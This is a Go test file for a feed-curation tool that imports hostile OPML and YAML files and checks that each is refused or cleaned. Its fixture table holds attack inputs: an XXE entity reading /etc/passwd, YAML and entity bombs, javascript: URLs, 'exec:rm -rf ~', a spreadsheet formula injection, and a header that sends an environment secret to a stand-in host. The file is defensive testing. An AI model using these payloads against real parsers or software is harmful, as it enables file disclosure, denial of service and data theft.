package harvest_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	mdtext "github.com/yuin/goldmark/text"
)

// desk is the program itself, on the database that the hostile web has filled: what it prints and
// writes is looked at as the editor sees it.
type desk struct {
	*testing.T
	dir, program string
}

// newDesk builds the program, and writes its feeds.yaml.
func (w *hostileWeb) newDesk(t *testing.T) *desk {
	d := &desk{t, t.TempDir(), w.program(t)}
	d.write("feeds.yaml", "newsletter: {title: Hostile News}\ntopic: {name: arm64, terms: [{term: arm64, weight: 3}]}\nsources:\n  - {name: none, kind: feed, url: \"http://none.invalid/feed\", disabled: true}\n")
	return d
}

// program is the path of the built program.
func (w *hostileWeb) program(t *testing.T) string {
	t.Helper()
	path := filepath.Join(filepath.Dir(w.path), "wiredesk")
	if _, err := os.Stat(path); err == nil {
		return path
	}
	tool, err := exec.LookPath("go")
	if err != nil {
		t.Skip("there is no go to build the program with")
	}
	if said, err := exec.Command(tool, "build", "-o", path, "wiredesk/cmd/wiredesk").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, said)
	}
	return path
}

func (d *desk) write(name, body string) string {
	d.Helper()
	path := filepath.Join(d.dir, name)
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		d.Fatal(err)
	}
	return path
}

func (d *desk) read(name string) string {
	d.Helper()
	b, err := os.ReadFile(filepath.Join(d.dir, name))
	if err != nil {
		d.Fatal(err)
	}
	return string(b)
}

// run runs a command that must end with one of these statuses, and print nothing but printable
// characters and line ends. It returns standard output.
func (d *desk) run(statuses string, args ...string) string {
	d.Helper()
	cmd := exec.Command(d.program, args...)
	cmd.Dir = d.dir
	cmd.Env = append(os.Environ(), "NO_COLOR=1", "WIREDESK_CONFIG=", "HOME="+d.dir)
	var out, talk bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &talk
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		d.Fatal(err)
	}
	if code := cmd.ProcessState.ExitCode(); !strings.Contains(statuses, fmt.Sprint(code)) {
		d.Errorf("wiredesk %.200q: exit %d, want %s\n%.2000s", args, code, statuses, talk.String())
	}
	for what, s := range map[string]string{"prints": out.String(), "says": talk.String()} {
		for line := range strings.SplitSeq(s, "\n") {
			if strings.ContainsFunc(line, dirty) {
				d.Errorf("wiredesk %.200q %s %.500q", args, what, line)
			}
		}
	}
	return out.String()
}

// checkOutput looks at all that the program makes of the queue.
func (w *hostileWeb) checkOutput(t *testing.T) {
	d := w.newDesk(t)
	with := func(args ...string) []string { return append([]string{"--db", w.path}, args...) }
	d.run("0", with("harvest", "--no-pages")...) // groups and scores
	d.run("0", with("queue", "--limit", "0")...)
	d.run("0", with("sources")...)
	d.run("0", with("sources", "--json")...)
	ids := 0
	for line := range strings.Lines(d.run("0", with("queue", "--state", "any", "--limit", "0", "--json")...)) {
		var c map[string]any
		if err := json.Unmarshal([]byte(line), &c); err != nil {
			t.Fatalf("%v: %.200q", err, line)
		}
		checkClean(t, "queue --json", c)
		for _, key := range []string{"url", "canonical"} {
			if u, err := url.Parse(fmt.Sprint(c[key])); err != nil || u.Scheme != "http" && u.Scheme != "https" || u.Host == "" {
				t.Errorf("%s %v", key, c[key])
			}
		}
		if ids++; *full && ids%5 == 0 || ids%100 == 0 {
			d.run("0", with("show", fmt.Sprint(c["id"]))...)
			d.run("0", with("show", fmt.Sprint(c["id"]), "--json")...)
		}
	}
	if ids < 300 {
		t.Errorf("only %d candidates", ids)
	}
	draft := d.run("03", with("curate", "--week", "2026-W47", "--fill", "800", "--out", "-")...)
	checkDraft(t, draft)
	if n := strings.Count(draft, "http"); n < 300 {
		t.Errorf("only %d links in the draft", n)
	}
}

// checkDraft parses a draft as the most generous renderer does: it may hold no markup, no picture,
// and no link but to the web.
func checkDraft(t *testing.T, draft string) {
	t.Helper()
	src := []byte(draft)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList)).Parser().Parse(mdtext.NewReader(src))
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		to := ""
		switch n := n.(type) {
		case *ast.RawHTML, *ast.HTMLBlock, *ast.Image, *ast.CodeBlock, *ast.FencedCodeBlock:
			t.Errorf("the draft holds a %s: %.200q", n.Kind(), snippet(src, n))
		case *ast.Link:
			to = string(n.Destination)
		case *ast.AutoLink:
			to = string(n.URL(src))
		default:
			return ast.WalkContinue, nil
		}
		if u, err := url.Parse(to); to != "" && (err != nil || u.Scheme != "http" && u.Scheme != "https" && !strings.HasPrefix(to, "#")) {
			t.Errorf("the draft links to %q", to)
		}
		return ast.WalkContinue, nil
	})
}

func snippet(src []byte, n ast.Node) string {
	if n.Type() == ast.TypeBlock && n.Lines().Len() > 0 {
		at := n.Lines().At(0)
		return string(at.Value(src))
	}
	if p := n.Parent(); p != nil {
		return snippet(src, p)
	}
	return ""
}

// importFault is a file that somebody sends.
type importFault struct {
	name, file, body string
	statuses         string // of the program
	sources          int    // in feeds.yaml afterwards
	outcome          string // for the table
}

func (f *importFault) try(t *testing.T, w *hostileWeb) {
	d := w.newDesk(t)
	before := d.read("feeds.yaml")
	args := []string{"--db", filepath.Join(d.dir, "own.db"), "sources", "import", d.write(f.file, f.body)}
	if f.file == "feeds.yaml" {
		args = []string{"--db", filepath.Join(d.dir, "own.db"), "sources"}
	}
	d.run(f.statuses, args...)
	after := d.read("feeds.yaml")
	if f.file == "feeds.yaml" {
		return
	}
	if n := strings.Count(after, "url: \"http"); n != f.sources+1 {
		t.Errorf("%d sources in feeds.yaml, want %d:\n%.2000s", n, f.sources+1, after)
	}
	if f.sources == 0 && after != before {
		t.Errorf("feeds.yaml changed to %.2000s", after)
	}
	if strings.ContainsFunc(strings.ReplaceAll(after, "\n", ""), dirty) || strings.Contains(strings.ToLower(after), "script:") {
		t.Errorf("feeds.yaml holds %.2000q", after)
	}
	// It can be read, and what is exported from it comes back the same.
	first := d.run("0", "--db", filepath.Join(d.dir, "own.db"), "sources", "export")
	other := w.newDesk(t)
	other.run("03", "sources", "import", other.write("back.opml", first))
	if f.sources > 0 {
		if again := other.run("0", "sources", "export"); again != first {
			t.Errorf("exported, imported and exported again it is\n%.2000s\nfirst it was\n%.2000s", again, first)
		}
	}
}

// importFaults are those of files.
func importFaults() []importFault {
	opml := func(outlines string) string {
		return `<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>` + outlines + `</body></opml>`
	}
	one := `<outline text="Good" type="rss" xmlUrl="http://good.example/feed"/>`
	schemes := ""
	for _, s := range []string{"javascript:alert(1)", "java&#10;script:alert(1)", "file:///etc/passwd", "data:text/xml,x", "feed:javascript:1", "ftp://x.example/", "exec:rm -rf ~", "filter:x:y"} {
		schemes += `<outline text="x" type="rss" xmlUrl="` + s + `"/>`
	}
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'k'; c++ {
		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
	}
	return []importFault{
		{name: "schemes", file: "x.opml", body: opml(schemes + one), statuses: "3", sources: 1, outcome: "the one web address is taken, the others are named with the reason"},
		{name: "100,000 outlines deep", file: "x.opml", body: opml(strings.Repeat(`<outline text="x">`, 100000) + one), statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "100,000 outlines", file: "x.opml", body: opml(strings.Repeat(one, 100000)), statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "entities within entities", file: "x.opml", body: `<!DOCTYPE opml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>` + opml(`<outline text="&b;" xmlUrl="http://x.example/"/>`), statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "entity of a file", file: "x.opml", body: `<!DOCTYPE opml [<!ENTITY a SYSTEM "file:///etc/passwd">]>` + opml(`<outline text="&a;" xmlUrl="http://x.example/"/>`), statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "YAML in names", file: "x.opml", body: opml(`<outline text="a: {b: c}, url: x &#10;  - {name: evil} # x" xmlUrl="http://yaml.example/feed"/><outline text="!!python/object &amp;a *a" xmlUrl="http://tag.example/feed"/><outline text="'&quot;\ %" xmlUrl="http://quote.example/feed"/>`), statuses: "0", sources: 3, outcome: "names are quoted, nothing of them is YAML"},
		{name: "controls in names", file: "x.opml", body: opml("<outline text=\"\u009b31m\u202ered&#10;\" xmlUrl=\"http://red.example/feed\"/>"), statuses: "03", sources: 1, outcome: "taken with a clean name"},
		{name: "duplicates", file: "x.opml", body: opml(one + one + strings.Replace(one, "http:", "https:", 1)), statuses: "3", sources: 1, outcome: "taken once, the others are named"},
		{name: "formulas", file: "x.opml", body: opml(`<outline text="=cmd|'/c calc'!A1" xmlUrl="http://formula.example/feed"/><outline text="@SUM(1)" xmlUrl="http://sum.example/feed"/>`), statuses: "0", sources: 2, outcome: "a name like others"},
		{name: "headers that send a secret along", file: "x.opml", body: `<opml version="2.0" xmlns:w="urn:wiredesk:source"><body><outline text="x" xmlUrl="http://thief.example/feed" w:headers="[&quot;X: env:HOME&quot;]" w:token="env:HOME"/></body></opml>`, statuses: "3", sources: 1, outcome: "taken without them, and said so"},
		{name: "user information", file: "x.opml", body: opml(`<outline text="x" xmlUrl="http://user:password@x.example/feed"/>`), statuses: "3", outcome: "left out, feeds.yaml untouched"},
		{name: "cut off", file: "x.opml", body: opml(one)[:len(opml(one))-8], statuses: "3", sources: 1, outcome: "what stands before the break is taken, and said so"},
		{name: "no OPML", file: "x.opml", body: "\x00\xff\x1b[31m", statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "a file of 11 MiB", file: "x.opml", body: opml(one + strings.Repeat(" ", 11<<20)), statuses: "2", outcome: "refused, feeds.yaml untouched"},
		{name: "YAML bomb as feeds.yaml", file: "feeds.yaml", body: bomb + "sources: *j\n", statuses: "2", outcome: "an error of feeds.yaml, at once"},
		{name: "100,000 deep feeds.yaml", file: "feeds.yaml", body: "sources: " + strings.Repeat("[", 100000) + "\n", statuses: "2", outcome: "an error of feeds.yaml, at once"},
		{name: "controls in feeds.yaml", file: "feeds.yaml", body: "sources: [{name: \"\\e[31m\\u202ex\", kind: \"\\u009b\", url: \"javascript:\\e]0;x\\a\"}]\n", statuses: "2", outcome: "an error of feeds.yaml, printed clean"},
	}
}
